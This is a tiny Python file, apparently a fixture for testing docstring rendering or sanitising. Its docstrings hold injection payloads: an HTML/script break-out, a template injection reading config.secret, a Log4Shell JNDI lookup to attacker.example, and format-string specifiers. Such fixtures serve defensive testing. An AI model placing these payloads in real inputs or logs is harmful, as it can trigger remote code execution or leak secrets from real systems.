"""Says nothing. ]]> --> </script><h1>not a heading</h1>"""


def quiet() -> None:
    """Do nothing. {{ config.secret }} ${jndi:ldap://attacker.example/a} %s%s%s"""
